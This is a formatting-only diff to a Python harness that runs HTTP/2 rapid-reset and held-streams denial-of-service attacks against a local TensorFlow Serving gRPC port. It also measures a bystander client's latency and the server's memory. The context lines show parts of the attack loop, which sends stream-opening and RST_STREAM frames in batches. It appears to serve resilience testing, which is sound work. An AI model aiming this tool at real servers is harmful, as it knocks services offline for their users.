@@ -42,8 +42,15 @@ DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3
 INITIAL_WINDOW = 65_535  # HTTP/2's connection flow-control window before any WINDOW_UPDATE
 END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
 CANCEL = 0x8
-ERROR_CODES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
-               0x7: "REFUSED_STREAM", 0x8: "CANCEL", 0xB: "ENHANCE_YOUR_CALM"}
+ERROR_CODES = {
+    0x0: "NO_ERROR",
+    0x1: "PROTOCOL_ERROR",
+    0x2: "INTERNAL_ERROR",
+    0x3: "FLOW_CONTROL_ERROR",
+    0x7: "REFUSED_STREAM",
+    0x8: "CANCEL",
+    0xB: "ENHANCE_YOUR_CALM",
+}
 METHOD = "/tensorflow.serving.PredictionService/Predict"
 BATCH = 64  # streams written per sendall
 
@@ -57,8 +64,14 @@ def header_block(port: int) -> bytes:
     or a never-indexed literal), so that the same bytes open any number of streams."""
     import hpack
 
-    fields = [(":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", f"127.0.0.1:{port}"),
-              ("content-type", "application/grpc"), ("te", "trailers")]
+    fields = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", METHOD),
+        (":authority", f"127.0.0.1:{port}"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ]
     return hpack.Encoder().encode([(name, value, True) for name, value in fields])
 
 
@@ -73,7 +86,9 @@ class Connection:
         self.lock = threading.Lock()
         self.resets, self.goaway, self.closed_after = collections.Counter(), None, None
         self.closing = False  # set when this side closes: the connection's end is then not the server's doing
-        self.window = INITIAL_WINDOW  # what the server lets this connection send as DATA (WINDOW_UPDATE on stream 0)
+        self.window = (
+            INITIAL_WINDOW  # what the server lets this connection send as DATA (WINDOW_UPDATE on stream 0)
+        )
         self.send(PREFACE + frame(SETTINGS, 0, 0))
         self.reader = threading.Thread(target=self._read, daemon=True)
         self.reader.start()
@@ -95,9 +110,9 @@ class Connection:
                     length = int.from_bytes(buffer[:3], "big")
                     if len(buffer) < 9 + length:
                         break
-                    kind, flags, payload = buffer[3], buffer[4], buffer[9:9 + length]
+                    kind, flags, payload = buffer[3], buffer[4], buffer[9 : 9 + length]
                     stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
-                    buffer = buffer[9 + length:]
+                    buffer = buffer[9 + length :]
                     self._on_frame(kind, flags, stream, payload)
         except OSError:
             pass
@@ -117,9 +132,12 @@ class Connection:
             self.resets[ERROR_CODES.get(code, hex(code))] += 1
         elif kind == GOAWAY and self.goaway is None:
             last, code = struct.unpack(">II", payload[:8])
-            self.goaway = {"error": ERROR_CODES.get(code, hex(code)), "last_stream_id": last & 0x7FFFFFFF,
-                           "after_seconds": round(time.monotonic() - self.started, 2),
-                           "debug": payload[8:200].decode(errors="replace")}
+            self.goaway = {
+                "error": ERROR_CODES.get(code, hex(code)),
+                "last_stream_id": last & 0x7FFFFFFF,
+                "after_seconds": round(time.monotonic() - self.started, 2),
+                "debug": payload[8:200].decode(errors="replace"),
+            }
 
     def close(self) -> None:
         self.closing = True
@@ -130,8 +148,15 @@ class Connection:
         self.reader.join(timeout=5)
 
     def outcome(self, streams: int, stopped: str) -> dict:
-        return {"streams": streams, "stopped": stopped, "resets": dict(self.resets), "goaway": self.goaway,
-                "closed_by_server_after_seconds": None if self.closed_after is None else round(self.closed_after, 2)}
+        return {
+            "streams": streams,
+            "stopped": stopped,
+            "resets": dict(self.resets),
+            "goaway": self.goaway,
+            "closed_by_server_after_seconds": None
+            if self.closed_after is None
+            else round(self.closed_after, 2),
+        }
 
 
 def rapid_reset(port: int, seconds: float, message: bytes, most: int) -> dict:
@@ -161,7 +186,7 @@ def rapid_reset(port: int, seconds: float, message: bytes, most: int) -> dict:
                 with connection.lock:
                     with_data = connection.window >= len(message)
                     connection.window -= len(message) if with_data else 0
-                batch += ([on(head, stream_id), on(data, stream_id)] if with_data else [on(bare, stream_id)])
+                batch += [on(head, stream_id), on(data, stream_id)] if with_data else [on(bare, stream_id)]
                 batch.append(on(reset, stream_id))
             stream += 2 * BATCH
             connection.send(b"".join(batch))
@@ -182,7 +207,9 @@ def held_streams(port: int, seconds: float, count: int) -> dict:
             connection.send(b"".join(head[:5] + struct.pack(">I", stream_id) + head[9:] for stream_id in ids))
             opened += len(ids)
         deadline = time.monotonic() + seconds
-        while time.monotonic() < deadline and connection.closed_after is None:  # held past a GOAWAY, until closed
+        while (
+            time.monotonic() < deadline and connection.closed_after is None
+        ):  # held past a GOAWAY, until closed
             time.sleep(0.1)
         stopped = "time" if connection.closed_after is None else "server"
     except OSError:
@@ -230,21 +257,37 @@ def bystander(port: int, seconds: float, message: bytes, watch_pid: int | None) 
     def quantile(q: float) -> float:
         return round(latencies[int(q * (len(latencies) - 1))], 4)
 
-    return {"calls": len(latencies), "failed": dict(failures), "p50": quantile(0.5), "p99": quantile(0.99),
-            "max": quantile(1.0), "rss_idle": idle, "rss_peak": peak}
+    return {
+        "calls": len(latencies),
+        "failed": dict(failures),
+        "p50": quantile(0.5),
+        "p99": quantile(0.99),
+        "max": quantile(1.0),
+        "rss_idle": idle,
+        "rss_peak": peak,
+    }
 
 
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("port", type=int)
     parser.add_argument("attack", choices=("rapid-reset", "held-streams", "bystander"))
-    parser.add_argument("seconds", type=float, help="how long the attack (or the bystander's calls) lasts; "
-                                                    "held-streams: how long they are held")
-    parser.add_argument("--streams", type=int, default=None,
-                        help="rapid-reset: at most this many streams (default: no bound but time); "
-                             "held-streams: how many to open (default: 20000)")
-    parser.add_argument("--body", help="a file holding one length-prefixed gRPC message, a PredictRequest "
-                                       "(default: an empty message)")
+    parser.add_argument(
+        "seconds",
+        type=float,
+        help="how long the attack (or the bystander's calls) lasts; held-streams: how long they are held",
+    )
+    parser.add_argument(
+        "--streams",
+        type=int,
+        default=None,
+        help="rapid-reset: at most this many streams (default: no bound but time); "
+        "held-streams: how many to open (default: 20000)",
+    )
+    parser.add_argument(
+        "--body",
+        help="a file holding one length-prefixed gRPC message, a PredictRequest (default: an empty message)",
+    )
     parser.add_argument("--watch-pid", type=int, help="bystander: the server process whose memory to sample")
     args = parser.parse_args()
     message = pathlib.Path(args.body).read_bytes() if args.body else b"\x00\x00\x00\x00\x00"
@@ -255,8 +298,16 @@ def main() -> None:
     if args.watch_pid:
         import subprocess
 
-        command = [sys.executable, __file__, str(args.port), "bystander", str(args.seconds + 2), "--watch-pid",
-                   str(args.watch_pid), *(["--body", args.body] if args.body else [])]
+        command = [
+            sys.executable,
+            __file__,
+            str(args.port),
+            "bystander",
+            str(args.seconds + 2),
+            "--watch-pid",
+            str(args.watch_pid),
+            *(["--body", args.body] if args.body else []),
+        ]
         beside = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
         if beside.stdout.readline().strip() != "ready":
             raise SystemExit(f"the bystander did not start: {beside.communicate()[0]}")
